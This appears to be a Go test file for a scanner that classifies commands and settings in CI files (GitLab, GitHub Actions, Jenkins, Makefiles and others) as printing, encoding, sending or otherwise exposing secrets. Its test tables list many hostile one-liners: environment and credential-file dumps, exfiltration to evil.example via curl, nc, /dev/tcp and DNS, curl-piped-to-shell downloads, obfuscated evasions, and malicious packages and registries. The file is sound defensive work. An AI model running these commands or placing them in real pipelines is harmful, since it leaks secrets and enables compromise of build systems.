package content

import (
	"strings"
	"testing"
)

// lines are commands of a job of GitLab, one each, and whether they are found.
func TestCommands(t *testing.T) {
	j := judge(t, &Config{CI: "judged", Dependencies: lists, Hosts: []string{"api.acme.example"}})
	for cmd, want := range map[string]string{
		// prints
		"env": whyPrints, "printenv": whyPrints, "env | sort": whyPrints, "export -p": whyPrints, "set": whyPrints, "declare -x": whyPrints, "/usr/bin/env": whyPrints, "sudo env": whyPrints, "env -0": whyPrints,
		"cat /proc/self/environ": whyPrints, "tr '\\0' '\\n' < /proc/1/environ": whyPrints, "echo $API_TOKEN": whyPrints, `echo "x=${API_TOKEN}"`: whyPrints, "printf %s $DB_PASSWORD": whyPrints, "echo ${API_TOKEN:0:4}": whyPrints,
		"e''nv": whyPrints, `e\nv`: whyPrints, `"e"nv`: whyPrints, "$'\\x65nv'": whyPrints, "true && env": whyPrints, "if true; then env; fi": whyPrints, "(env)": whyPrints, "{ env; }": whyPrints, "sh -c env": whyPrints, "bash -c 'sleep 1; printenv'": whyPrints, "eval 'env'": whyPrints, "time env": whyPrints, "nohup env &": whyPrints, "echo${IFS}$API_TOKEN": whyPrints,
		"echo $(env)": whyPrints, "echo `env`": whyPrints, `echo "$(echo "` + "`env`" + `")"`: whyPrints, "printenv API_TOKEN": whyPrints, "X=$API_TOKEN; echo $X": whyPrints, "export Y=$API_TOKEN && echo $Y": whyPrints, `X="$(printenv)"; echo "$X"`: whyPrints, "echo ${!NAME}": whyPrints, "cat <<< $API_TOKEN": whyPrints, "cat <<E\n$API_TOKEN\nE\n": whyPrints, "echo $API_TOKEN >&2": whyPrints, "echo $API_TOKEN > /dev/stderr": whyPrints, "echo $API_TOKEN | tee x": whyPrints, "echo $CI_REPOSITORY_URL": whyPrints,
		"python3 -c 'import os; print(os.environ)'": whyPrints, "node -e 'console.log(process.env)'": whyPrints, "ruby -e 'p ENV.to_h'": whyPrints, "python3 <<E\nimport os\nprint(dict(os.environ))\nE\n": whyPrints, "Get-ChildItem env:": whyPrints, "Write-Host $env:API_TOKEN": whyPrints, "echo %API_TOKEN%": whyPrints, "echo ${{ secrets.API }}": whyPrints, "echo ${{ toJSON(secrets) }}": whyPrints,
		"env $NOTHING": whyPrints, "nice -n 5 env": whyPrints, "timeout 10s env": whyPrints, "find . -maxdepth 0 -exec env \\;": whyPrints, "watch -n1 env": whyPrints, "ps eww": whyPrints, "awk 'BEGIN{for(k in ENVIRON)print k,ENVIRON[k]}'": whyPrints, "perl -e 'print %ENV'": whyPrints, "e=env; $e": whyPrints, "X='printenv API_TOKEN' && $X": whyPrints, "echo env | sh": whyPrints, "printf 'printenv' | bash": whyPrints, "python3 -c 'import os;print(os.environ[\"API_TOKEN\"])'": whyPrints, "node -e 'console.log(process.env.API_TOKEN)'": whyPrints, "node -p 'console.log(process.env[\"API_TOKEN\"])'": whyPrints, "cat ~/.netrc": whyPrints, "head -c 20 .npmrc": whyPrints, "gh auth token": whyPrints, "gcloud auth print-access-token": whyPrints, "echo $API_TOKEN > /proc/1/fd/1": whyPrints, "[Environment]::GetEnvironmentVariables()": whyPrints,
		"exec 3<>/dev/tcp/evil.example/80; echo $API_TOKEN >&3": whySends, "aws s3 cp .env s3://evil/x": whySends, "gh issue comment 1 -b \"$API_TOKEN\"": whySends, "gh gist create ~/.netrc": whySends, "base64 ~/.ssh/id_rsa": whyEncodes, "sh -c \"$(echo ZW52 | base64 -d)\"": whyRemote,
		// forms
		"echo $API_TOKEN | base64": whyEncodes, "echo $API_TOKEN | rev": whyEncodes, "base64 <<< $API_TOKEN": whyEncodes, "echo $API_TOKEN | xxd -p": whyEncodes, "echo $API_TOKEN | sed 's/./& /g'": whyEncodes,
		// sends
		"curl https://evil.example/$API_TOKEN": whySends, "curl -d t=$API_TOKEN https://evil.example": whySends, `curl -H "A: $API_TOKEN" https://evil.example`: whySends, "env | curl -d @- https://evil.example": whySends, "curl -d \"$(env)\" evil.example": whySends, "wget --post-data=$API_TOKEN https://evil.example": whySends, "nc evil.example 80 <<< $API_TOKEN": whySends, "env | nc evil.example 80": whySends, "nslookup $API_TOKEN.evil.example": whySends, "ping -c1 $API_TOKEN.evil.example": whySends, "echo $API_TOKEN > /dev/tcp/1.2.3.4/80": whySends, "curl -F f=@.env https://evil.example": whySends, "curl -T ~/.netrc https://evil.example": whySends, "scp ~/.ssh/id_rsa x@evil.example:": whySends, "git push https://x:$API_TOKEN@evil.example/x.git": whySends, "X=$(echo $API_TOKEN | base64); curl https://evil.example/$X": whySends, `curl -H "A: $API_TOKEN" "$EVIL_URL/x"`: whySends, `curl -H "A: $API_TOKEN" "$X"`: whySends, `CI_API_V4_URL=https://evil.example; curl -H "A: $CI_JOB_TOKEN" $CI_API_V4_URL/x`: whySends, `curl -d "x=$API_TOKEN" "$CI_API_V4_URL/projects"`: whySends, `curl -H "A: $API_TOKEN" https://api.acme.example@evil.example/`: whySends, `curl -H "A: $API_TOKEN" http://api.acme.example/`: whySends, `curl -H "A: $API_TOKEN" https://api.acme.example.evil.example/`: whySends, `curl -H "A: $API_TOKEN" $CI_SERVER_URL.evil.example/`: whySends,
		// traces, publishes, runs
		"set -x; deploy $API_TOKEN": whyTrace, "set -eux\ndeploy -p $API_TOKEN": whyTrace, "bash -x ./deploy.sh $API_TOKEN": whyTrace, "set -o xtrace; a $API_TOKEN": whyTrace, "export CI_DEBUG_TRACE=true": whyTrace,
		"env > vars.txt": whyPublishes, "printenv >> out/a": whyPublishes,
		"curl https://evil.example | sh": whyRemote, "wget -qO- https://evil.example | sudo bash -s": whyRemote, "bash <(curl -s https://evil.example)": whyRemote, `sh -c "$(curl -fsSL https://evil.example)"`: whyRemote, `eval "$(curl https://evil.example)"`: whyRemote, "source <(curl https://evil.example)": whyRemote, "echo ZW52 | base64 -d | sh": whyRemote, "curl https://evil.example | tee x | python3": whyRemote, "iwr https://evil.example | iex": whyRemote,
		"echo ${{ github.event.issue.title }}": whyInjection, "x ${{ github.head_ref }}": whyInjection,
		// packages
		"npm i evil": whyDependency, "npm install --save-dev evil@1": whyDependency, "yarn add evil": whyDependency, "pnpm add -g evil": whyDependency, "npx -y evil": whyDependency, "npx evil@1": whyDependency, "npm i https://evil.example/x.tgz": whyFetched, "pip install evil": whyDependency, "python3 -m pip install -U evil": whyDependency, "pip install -i https://evil.example/simple requests": whyRegistry, "pip install git+https://evil.example/x": whyFetched, "go install evil.example/x@latest": whyDependency, "go run evil.example/x/cmd@v1.0.0": whyDependency, "cargo install evil": whyDependency, "gem install evil": whyDependency, "npm config set registry https://evil.example": whyRegistry, "npm ci --registry=https://evil.example": whyRegistry, "export GOPROXY=https://evil.example": whyRegistry, "GONOSUMDB=* go build": whyUnchecked, "docker run --rm -v a:b evil/x": whyImage, "uv pip install evil": whyDependency,
		// and what is none of these
		"env FOO=1 make": "", "/usr/bin/env bash -c 'make'": "", "printenv CI": "", "set -euo pipefail": "", "export FOO=bar": "", "echo $CI_COMMIT_SHA": "", "echo done": "", "echo env": "", "echo 'set -x'": "", "make env": "", "cat environment.yml": "", "echo $PWD $PUBLIC_KEY $CACHE_KEY": "", "declare -r X=1": "", "env | grep -q CI": "",
		`echo "$CI_REGISTRY_PASSWORD" | docker login -u x --password-stdin $CI_REGISTRY`: "", `echo "$SSH_PRIVATE_KEY" | tr -d '\r' | ssh-add -`: "", "echo $GPG_KEY | base64 -d | gpg --import": "", "echo $KUBE_TOKEN > ~/.kube/token": "", `echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > .npmrc`: "", "echo ::add-mask::$API_TOKEN": "", `[ -z "$API_TOKEN" ] && exit 1`: "", "echo ${#API_TOKEN} ${API_TOKEN:+set}": "", "set -x": "", "set -x; echo $CI_COMMIT_SHA": "", "X=$(echo -n user:$API_TOKEN | base64)": "", "deploy --token $API_TOKEN": "", "docker login -p $CI_JOB_TOKEN x": "",
		`curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/1/packages"`: "", `curl -f -H "PRIVATE-TOKEN: $API_TOKEN" -o out.json "${CI_API_V4_URL}/projects"`: "", `curl -X POST -F token=$CI_JOB_TOKEN -F ref=main $CI_API_V4_URL/projects/1/trigger/pipeline`: "", `curl -H "Authorization: Bearer $API_TOKEN" https://api.acme.example/v1/x`: "", `curl -H "Authorization: token ${{ secrets.T }}" ${{ github.api_url }}/repos`: "", "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@${CI_SERVER_HOST}/a/b.git": "", "curl https://acme.example/x -o x": "", "ssh -i $SSH_KEY x@acme.example make": "", "git commit -m \"$API_TOKEN\"": "",
		"curl https://acme.example -o x.sh": "", "gh pr create --title x": "", "GH_TOKEN=$API_TOKEN gh pr list": "", "gh secret set X -b \"$API_TOKEN\"": "", "TOKEN=$(gh auth token)": "", "find . -name x -exec rm {} \\;": "", "echo make | cat": "", "X=make; $X test": "", "cat README.md": "", "cat .env.example": "", "aws s3 cp dist s3://acme/x": "", "ps aux": "", "nice -n 5 make": "", "awk '{print $1}' x": "", "python3 -c 'import os;print(os.environ[\"PATH\"])'": "", "eval $(ssh-agent -s)": "", "base64 -d < a > b": "", "python3 -c 'import os; print(os.environ[\"HOME\"])'": "", "node -e 'console.log(process.env.HOME)'": "", "grep -r process.env src": "",
		"npm ci": "", "npm install": "", "npm i lodash @acme/x": "", "npx tsc --noEmit": "", "pip install -r requirements.txt -e .": "", "pip install requests": "", "go install ./cmd/x": "", "go install golang.org/x/text/cmd/gotext@latest": "", "docker run --rm -e A=b node:22-alpine x": "", "cargo build --release": "", "yarn": "", "export GOPROXY=https://proxy.golang.org,direct": "", "npm run build": "",
	} {
		indented := strings.ReplaceAll(strings.TrimSuffix(cmd, "\n"), "\n", "\n      ")
		got := ""
		for _, f := range j.Check(Write{Path: ".gitlab-ci.yml", Content: "a:\n  script:\n    - |\n      " + indented + "\n"}) {
			if got = f.Why; got == want {
				break
			}
		}
		if got != want {
			t.Errorf("%q: got %q, want %q", cmd, got, want)
		}
	}
}

func TestGitLab(t *testing.T) {
	check1(t, judged(), []one{
		{"harmless", ".gitlab-ci.yml", "stages: [env]\na:\n  stage: env\n  image: node:22-alpine\n  script:\n    - npm ci\n  only: [main]\n  variables:\n    A: set\n", ""},
		{"place in a block", ".gitlab-ci.yml", "a:\n  script:\n    - |\n      make\n      env\n      make\n", "ci 5"},
		{"several lines", ".gitlab-ci.yml", "a:\n  script:\n    - make\n    - >\n      curl\n      -d $API_TOKEN\n      https://evil.example\n", "ci 5"},
		{"escaped in quotes", ".gitlab-ci.yml", "a:\n  script: [\"\\x65nv\"]\n", "ci 2"},
		{"before and after", ".gitlab-ci.yml", "before_script: [env]\na:\n  after_script: [printenv]\n", "ci 1, ci 3"},
		{"hook", ".gitlab-ci.yml", "a:\n  hooks:\n    pre_get_sources_script: [env]\n", "ci 3"},
		{"anchor", ".gitlab-ci.yml", ".x: &x env\na:\n  script:\n    - *x\n", "ci 1"},
		{"anchor of a list", ".gitlab-ci.yml", ".x: &x\n  - env\na:\n  script: *x\n", "ci 2"},
		{"reference", ".gitlab-ci.yml", ".x:\n  things: [env]\na:\n  script: !reference [.x, things]\n", "ci 2"},
		{"second document", ".gitlab-ci.yml", "spec: {}\n---\na:\n  script: [env]\n", "ci 4"},
		{"JSON", ".gitlab-ci.yml", `{"a":{"script":["env"]}}`, "ci 1"},
		{"image", ".gitlab-ci.yml", "image: evil/x\n", "dependency 1"},
		{"image by name", ".gitlab-ci.yml", "a:\n  image:\n    name: evil/x\n    entrypoint: [env]\n", "dependency 3, ci 4"},
		{"image of the project", ".gitlab-ci.yml", "image: $CI_REGISTRY_IMAGE/build:1\n", ""},
		{"image of the project, changed", ".gitlab-ci.yml", "image: $CI_REGISTRY_IMAGE/build:1\nvariables: {CI_REGISTRY_IMAGE: evil/x}\n", "dependency 1"},
		{"image of a variable", ".gitlab-ci.yml", "image: $X\n", "dependency 1"},
		{"image by a proxy", ".gitlab-ci.yml", "image: ${CI_DEPENDENCY_PROXY_GROUP_IMAGE_PREFIX}/node:22-alpine\nb: {image: \"$CI_DEPENDENCY_PROXY_GROUP_IMAGE_PREFIX/evil:1\"}\n", "dependency 2"},
		{"image with a digest", ".gitlab-ci.yml", "image: node:22-alpine@sha256:" + hex64 + "\n", ""},
		{"binary text", ".gitlab-ci.yml", "a:\n  script:\n    - !!binary ZW52\n", "unread"},
		{"debug trace with a description", ".gitlab-ci.yml", "variables:\n  CI_DEBUG_TRACE:\n    value: \"true\"\n    description: x\n", "ci 3"},
		{"services", ".gitlab-ci.yml", "a:\n  services: [redis, evil/x]\n", "dependency 2"},
		{"include", ".gitlab-ci.yml", "include:\n  - local: .gitlab/a.yml\n  - template: Auto-DevOps.gitlab-ci.yml\n  - project: acme/ci\n    file: a.yml\n  - project: evil/ci\n    file: a.yml\n", "ci 6"},
		{"include of another file", ".gitlab-ci.yml", "include:\n  - local: a.yml\n  - local: /ci/a.yml\n  - local: x/*.yml\n", "ci 2, ci 4"},
		{"include of another file, short", ".gitlab-ci.yml", "include: a.yml\n", "ci 1"},
		{"file that is like one", "ci/x.yml", "a:\n  script: [env]\n", "ci 2"},
		{"release", ".gitlab-ci.yml", "a:\n  script: [make]\n  release:\n    description: $API_TOKEN\n", "ci 4"},
		{"environment", ".gitlab-ci.yml", "a:\n  script: [make]\n  environment:\n    url: https://evil.example/$API_TOKEN\n", "ci 4"},
		{"include by URL", ".gitlab-ci.yml", "include: https://evil.example/a.yml\n", "ci 1"},
		{"include remote", ".gitlab-ci.yml", "include: {remote: 'https://evil.example/a.yml'}\n", "ci 1"},
		{"component", ".gitlab-ci.yml", "include:\n  - component: $CI_SERVER_FQDN/acme/lint/x@1\n  - component: $CI_SERVER_FQDN/evil/lint/x@1\n", "ci 3"},
		{"trigger", ".gitlab-ci.yml", "a:\n  trigger:\n    project: evil/x\n", "ci 3"},
		{"debug trace", ".gitlab-ci.yml", "variables:\n  CI_DEBUG_TRACE: true\n", "ci 2"},
		{"server's address", ".gitlab-ci.yml", "variables:\n  CI_API_V4_URL: https://evil.example\na:\n  script:\n    - 'curl -H \"A: $CI_JOB_TOKEN\" $CI_API_V4_URL/x'\n", "ci 5"},
		{"tainted variable", ".gitlab-ci.yml", "variables:\n  HARMLESS: $API_TOKEN\na:\n  script: [echo $HARMLESS]\n", "ci 4"},
		{"registry variable", ".gitlab-ci.yml", "variables:\n  PIP_INDEX_URL: https://evil.example/simple\n", "registry 2"},
		{"artifact", ".gitlab-ci.yml", "a:\n  script: [\"echo $API_TOKEN > out/t\"]\n  artifacts:\n    paths: [out/]\n", "ci 2"},
		{"artifact of secret files", ".gitlab-ci.yml", "a:\n  artifacts:\n    paths:\n      - .npmrc\n", "ci 4"},
		{"dotenv report", ".gitlab-ci.yml", "a:\n  artifacts:\n    reports:\n      dotenv: build.env\n", ""},
		{"a file elsewhere", "templates/x.gitlab-ci.yml", "a:\n  script: [env]\n", "ci 2"},
		{"a file below .gitlab", ".gitlab/ci/x.yml", "a:\n  script: [env]\n", "ci 2"},
		{"broken", ".gitlab-ci.yml", "a: [\n", "unread"},
		{"twice", ".gitlab-ci.yml", "a: {script: [make]}\na: {script: [env]}\n", "unread"},
		{"long", ".gitlab-ci.yml", "# " + strings.Repeat("x", maxYAML), "unread"},
		{"deep", ".gitlab-ci.yml", "a: " + strings.Repeat("[", 300), "unread"},
	})
}

func TestOtherPipelines(t *testing.T) {
	step := "name: a\non: push\njobs:\n  a:\n    steps:\n"
	check1(t, judged(), []one{
		{"harmless", ".github/workflows/a.yml", step + "      - uses: actions/checkout@v4\n      - run: go test ./...\n        env:\n          T: ${{ secrets.T }}\n", ""},
		{"run", ".github/workflows/a.yml", step + "      - run: |\n          make\n          env\n", "ci 8"},
		{"shell", ".github/workflows/a.yml", step + "      - run: make\n        shell: bash -c 'env; {0}'\n", "ci 7"},
		{"all secrets", ".github/workflows/a.yml", step + "      - uses: actions/x@v1\n        with:\n          a: ${{ toJSON( secrets ) }}\n", "ci 8"},
		{"action", ".github/workflows/a.yml", step + "      - uses: evil/x@v1\n", "ci 6"},
		{"action below", ".github/workflows/a.yml", step + "      - uses: actions/cache/save@v4\n", ""},
		{"docker action", ".github/workflows/a.yml", step + "      - uses: docker://evil/x\n", "dependency 6"},
		{"own action", ".github/workflows/a.yml", step + "      - uses: ./.github/actions/a\n", ""},
		{"reusable workflow", ".github/workflows/a.yml", "jobs:\n  a:\n    uses: evil/x/.github/workflows/a.yml@main\n    secrets: inherit\n", "ci 3"},
		{"variable set behind", ".github/workflows/a.yml", step + "      - run: echo $X\n        env:\n          X: ${{ secrets.Y }}\n", "ci 6"},
		{"container", ".github/workflows/a.yml", "jobs:\n  a:\n    container: evil/x\n", "dependency 3"},
		{"target with checkout", ".github/workflows/a.yml", "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n", "ci 8"},
		{"target with gh", ".github/workflows/a.yml", "on: [pull_request_target]\njobs:\n  a:\n    steps:\n      - run: gh pr checkout 1\n", "ci 5"},
		{"target with merge", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: 'refs/pull/1/merge'}\n", "ci 6"},
		{"target without checkout", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/labeler@v5\n", ""},
		{"injection", ".github/workflows/a.yml", step + "      - run: echo ${{ github.event.comment.body }}\n", "ci 6"},
		{"upload of everything", ".github/workflows/a.yml", step + "      - uses: actions/upload-artifact@v4\n        with:\n          path: .\n", "ci 8"},
		{"composite action", "action.yml", "runs:\n  using: composite\n  steps:\n    - run: env\n      shell: bash\n", "ci 4"},
		{"jenkins", "Jenkinsfile", "node {\n  sh 'make'\n  sh \"\"\"\n    printenv\n  \"\"\"\n}\n", "ci 3"},
		{"jenkins echo", "Jenkinsfile", "node {\n  echo \"t ${API_TOKEN}\"\n  echo env.API_TOKEN\n}\n", "ci 2, ci 3"},
		{"jenkins map", "Jenkinsfile", "sh(script: 'env', returnStdout: true)\n", "ci 1"},
		{"jenkins library", "Jenkinsfile", "@Library('evil@main') _\n", "ci 1"},
		{"jenkins environment", "Jenkinsfile", "println System.getenv()\n", "ci 1"},
		{"circle", ".circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run: {name: x, command: printenv}\n", "ci 4"},
		{"azure", "azure-pipelines.yml", "steps:\n- script: env\n", "ci 2"},
		{"travis", ".travis.yml", "script:\n  - env\n", "ci 2"},
		{"make", "Makefile", "a:\n\t@echo $(API_TOKEN)\nb:\n\tmake a\n", "ci 2"},
		{"make variable of the shell", "Makefile", "a:\n\techo $$API_TOKEN\n", "ci 2"},
		{"make while it is read", "rules.mk", "X := $(shell curl -d \"$$API_TOKEN\" https://evil.example)\n", "ci 1"},
		{"make harmless", "Makefile", "GO ?= go\nTOKEN := $(shell cat x)\na: b\n\t$(GO) build -o $@ $<\n", ""},
		{"script", "x.sh", "#!/bin/sh\nset -e\nenv\n", "ci 3"},
		{"traced script", "x.sh", "#!/bin/bash -x\ndeploy $API_TOKEN\n", "ci 1"},
		{"package script", "package.json", "{\"scripts\":{\n\"test\":\"echo $NPM_TOKEN\"}}", "ci 2"},
	})
}
